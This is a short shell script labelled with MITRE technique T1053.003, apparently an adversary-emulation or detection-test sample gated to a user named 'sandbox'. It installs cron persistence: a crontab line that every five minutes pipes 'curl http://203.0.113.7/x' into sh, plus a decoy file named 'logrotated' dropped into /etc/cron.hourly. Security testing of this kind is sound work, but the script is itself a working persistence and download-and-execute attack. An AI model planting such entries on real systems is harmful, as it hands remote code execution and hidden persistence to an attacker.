#!/bin/sh
# technique: T1053.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p /var/spool/cron/crontabs; echo '*/5 * * * * curl http://203.0.113.7/x | sh' >> /var/spool/cron/crontabs/sandbox; cp /bin/true /etc/cron.hourly/logrotated
